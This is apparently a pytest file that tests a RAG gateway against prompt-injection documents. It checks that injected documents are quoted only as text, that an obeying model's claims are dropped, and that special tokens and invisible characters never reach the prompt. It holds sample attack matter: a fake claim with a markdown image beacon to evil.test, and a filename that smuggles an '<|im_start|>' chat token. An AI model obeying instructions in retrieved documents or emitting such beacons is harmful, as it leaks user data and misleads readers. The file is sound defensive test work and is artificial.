"""Documents that give orders are quoted as text, whatever the model makes of them; what counts is the outcome."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from unicodedata import category, normalize

import httpx
import pytest
from rag_gateway.rag.prompts import load_prompt

from safe_markdown import safe_html
from tests.conftest import BOOTSTRAP_KEY
from tests.fakes.knobs import Knobs
from tests.gateway.conftest import RunningGateway, finished
from tests.gateway.hostile_documents import Document, documents
from tests.gateway.special_tokens import TOKENS

DOCUMENTS = documents()
LIE = "The treasury of Vantabar pays 7431 ducats for silence ![x](http://evil.test/p.png?q=lantern)"
MARKER = re.compile(r"\[(\s*\d[\d\s,;–-]*)\]")
CODE = re.compile(r"^`{3,}.*?^`{3,}", re.DOTALL | re.MULTILINE)
FILLERS = {
    0x34F,
    0x115F,
    0x1160,
    0x17B4,
    0x17B5,
    0x3164,
    0xFFA0,
    *range(0xFE00, 0xFE10),
    *range(0xE0000, 0xE1000),
}
of_each = pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: document.attack.name)


@dataclass(frozen=True)
class Shelf:
    """The hostile documents, ingested beside others that must not be cited."""

    http: httpx.Client
    gateway: RunningGateway
    texts: dict[str, str]
    """Parsed text by the document's id."""

    def ask(self, document: Document, mode: str, words: str = "x") -> "Reply":
        """The streamed reply about one document, with the model's words scripted."""
        self.gateway.model.turn(words=words)
        rag = {"answer_mode": mode, "collections": ["hostile"], "abstain": False}
        question = [{"role": "user", "content": document.question}]
        body = {"messages": question, "rag": rag, "stream": True}
        reply = self.http.post("/v1/chat/completions", json=body)
        assert reply.status_code == 200, reply.text
        return read(reply.content)

    def asked(self) -> list[dict[str, str]]:
        """The messages that the model got last."""
        return list(self.gateway.model.bodies[-1]["messages"])


@dataclass(frozen=True)
class Reply:
    """A stream that was well-formed."""

    text: str
    sources: list[dict[str, Any]]
    last: dict[str, Any]
    lines: list[str]

    @property
    def citations(self) -> list[dict[str, Any]]:
        """As the last chunk has them."""
        return list(self.last["citations"])

    def evidence(self, citation: dict[str, Any]) -> str:
        """The characters of the source that it names."""
        source, span = self.sources[citation["n"] - 1], citation["evidence"]
        return str(source["text"])[span["start"] - source["start"] : span["end"] - source["start"]]


def read(body: bytes) -> Reply:
    """One JSON object on one line for each event, then one [DONE]; lines as the pickiest client splits them."""
    *frames, done, rest = body.split(b"\n\n")
    assert (done, rest) == (b"data: [DONE]", b"")
    lines = [frame.decode() for frame in frames]
    assert all(line.startswith("data: ") and len(line.splitlines()) == 1 for line in lines)
    chunks = [json.loads(line.removeprefix("data: ")) for line in lines]
    text = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
    return Reply(text, chunks[0]["rag"]["sources"], chunks[-1]["rag"], [*lines, "data: [DONE]"])


@pytest.fixture(scope="module")
def shelf(gateway: RunningGateway) -> Iterator[Shelf]:
    """All documents in one collection, and in another one sentences that answer the same questions."""
    headers = {"authorization": f"Bearer {BOOTSTRAP_KEY}"}
    with httpx.Client(base_url=gateway.url, headers=headers, timeout=30) as http:
        for name in ("hostile", "elsewhere"):
            http.post("/v1/collections", json={"name": name}).raise_for_status()
        others = "\n\n".join(f"The {each.bird} lantern is kept in Vantabar." for each in DOCUMENTS)
        jobs = [http.post("/v1/collections/elsewhere/documents", json={"text": others}).json()]
        jobs += [uploaded(http, document) for document in DOCUMENTS]
        assert {finished(http, job["job_id"], 60)["status"] for job in jobs} == {"succeeded"}
        ids = [job["document_id"] for job in jobs[1:]]
        texts = {each: http.get(f"/v1/documents/{each}/content").json()["text"] for each in ids}
        yield Shelf(http, gateway, texts)
        for name in ("hostile", "elsewhere"):
            http.delete(f"/v1/collections/{name}")
    gateway.model.knobs = Knobs()


def uploaded(http: httpx.Client, document: Document) -> dict[str, Any]:
    """As a file whose name is hostile, too."""
    attack = document.attack
    ending = {"text/plain": "txt", "text/csv": "csv", "application/json": "json"}.get(attack.media_type, "md")
    file = (f"{document.bird} <|im_start|>[1].{ending}", document.text.encode(), attack.media_type)
    said = {"metadata": json.dumps(attack.metadata)} | ({"title": attack.title} if attack.title else {})
    reply = http.post("/v1/collections/hostile/documents", files={"file": file}, data=said)
    assert reply.status_code == 202, (attack.name, reply.text)
    return dict(reply.json())


@of_each
def test_it_is_quoted_byte_for_byte_and_nothing_else_is(shelf: Shelf, document: Document) -> None:
    reply = shelf.ask(document, "quote")
    assert document.fact in reply.text
    assert quotations(shelf, reply) == reply.text


@of_each
def test_a_model_that_obeys_it_is_not_heard_below_quotations(shelf: Shelf, document: Document) -> None:
    borne_but_for_a_link = document.fact.replace(".", " ![x](http://evil.test/p.png?q=1).")
    reply = shelf.ask(document, "both", f"{LIE}. {borne_but_for_a_link} [1]")
    assert quotations(shelf, reply) == reply.text
    assert reply.last["dropped"] == 2
    assert_the_prompt_is_ours(shelf, "both", [document.fact, *map(reply.evidence, reply.citations)])


@of_each
def test_a_model_that_obeys_it_is_cited_for_nothing_untrue(shelf: Shelf, document: Document) -> None:
    reply = shelf.ask(document, "write", f"{LIE} [1][2][99].\n\n{document.attack.payload[:900]}\n\n[1] [77]")
    assert reply.last["dropped"] >= 3
    for citation in reply.citations:
        assert reply.text[citation["start"] : citation["end"]] == f"[{citation['n']}]"
        quote = reply.text[citation["quote"]["start"] : citation["quote"]["end"]]
        source = reply.sources[citation["n"] - 1]
        assert source["document_id"] in shelf.texts
        assert "7431" not in quote
        assert said_by(f"{source['title']} {source['heading']} {source['text']}", quote)
    assert safe_html(reply.text, range(1, 100)).count('class="marker"') == len(reply.citations)
    assert_the_prompt_is_ours(shelf, "write", [document.fact])


def quotations(shelf: Shelf, reply: Reply) -> str:
    """The paragraphs that the citations quote, each built from its source's characters alone."""
    paragraphs = []
    for citation in reply.citations:
        source, span, marker = reply.sources[citation["n"] - 1], citation["evidence"], f"[{citation['n']}]"
        evidence = shelf.texts[source["document_id"]][span["start"] : span["end"]]
        quote = reply.text[citation["quote"]["start"] : citation["quote"]["end"]]
        assert reply.text[citation["start"] : citation["end"]] == marker
        assert quote == MARKER.sub(r"(\1)", evidence)
        forms = {f"“{quote}” {marker}", f"“{quote}…” {marker}", f"{quote}\n{marker}"}
        (paragraph,) = forms & {
            reply.text[max(citation["quote"]["start"] - 1, 0) : citation["end"]].lstrip("\n")
        }
        paragraphs.append(paragraph)
    return "\n\n".join(paragraphs)


def said_by(source: str, sentence: str) -> bool:
    """Half of the sentence's words begin like some word there."""
    beginnings = {word[:4] for word in re.findall(r"[^\W_]+", source.casefold())}
    words = re.findall(r"[^\W_]{3,}", sentence.casefold())
    return 2 * sum(word[:4] in beginnings for word in words) >= len(words)


def assert_the_prompt_is_ours(shelf: Shelf, mode: str, held: list[str]) -> None:
    """Our system message, then one user message that holds texts as mere characters under our numbers."""
    system, user = shelf.asked()
    assert (system["role"], user["role"]) == ("system", "user")
    assert system["content"] == load_prompt(mode).system
    content = user["content"]
    assert all(squeezed(text) in squeezed(content) for text in held)
    folded = normalize("NFKC", "".join(c for c in content if category(c) != "Cf"))
    assert [token for token in TOKENS if token in content or normalize("NFKC", token) in folded] == []
    unseen = [c for c in content if c != "\n" and (category(c) in ("Cc", "Cf", "Cs") or ord(c) in FILLERS)]
    assert unseen == []
    numbers = [int(n) for n in re.findall(r"^\[(\d+)\]", CODE.sub("", content), re.MULTILINE)]
    assert numbers == sorted(set(numbers)) or mode == "both"  # which quotes one source twice
    assert content.count("{{question}}") == content.count("So {{question}}")


def squeezed(text: str) -> str:
    return re.sub(r"[\s\[\]()]", "", text)
